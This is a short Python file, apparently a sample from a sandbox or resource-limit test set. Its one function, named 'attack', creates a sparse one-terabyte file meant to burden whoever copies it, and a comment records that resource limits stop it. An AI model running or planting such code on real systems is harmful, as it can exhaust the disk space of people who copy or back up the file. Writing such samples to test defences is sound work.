"""Make a file of a terabyte that occupies nothing, for whoever copies it."""
# stopped by: rlimits

import os


def attack(target):
    with open("sparse", "wb") as file:
        os.ftruncate(file.fileno(), 1 << 40)
    return True
